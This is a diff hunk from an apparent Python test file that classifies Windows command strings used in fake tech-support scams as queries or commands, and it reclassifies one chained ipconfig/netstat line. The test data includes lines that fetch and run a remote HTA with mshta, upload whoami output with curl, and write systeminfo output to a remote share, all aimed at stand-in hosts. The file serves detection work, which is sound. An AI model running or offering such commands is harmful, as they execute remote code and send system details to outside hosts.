@@ -400,7 +400,7 @@ def test_a_tools_switch_that_only_picks_its_page_is_a_program_name_whoever_wrote
         # what fake support staff read out as proof, or anything that fetches, runs or sends
         ("cmd /k netstat -ano", Shape.QUERY),
         ("cmd /k ipconfig /displaydns", Shape.QUERY),
-        ("cmd /k ipconfig /all & netstat -ano", Shape.COMMAND),
+        ("cmd /k ipconfig /all & netstat -ano", Shape.QUERY),  # typed only
         ("cmd /k ipconfig /all & mshta https://cdn.example.test/v.hta", Shape.COMMAND),
         ("cmd /k whoami /all | curl -F f=@- https://cdn.example.test/u", Shape.COMMAND),
         (r"cmd /k systeminfo > \\203.0.113.7\drop\r.txt", Shape.COMMAND),
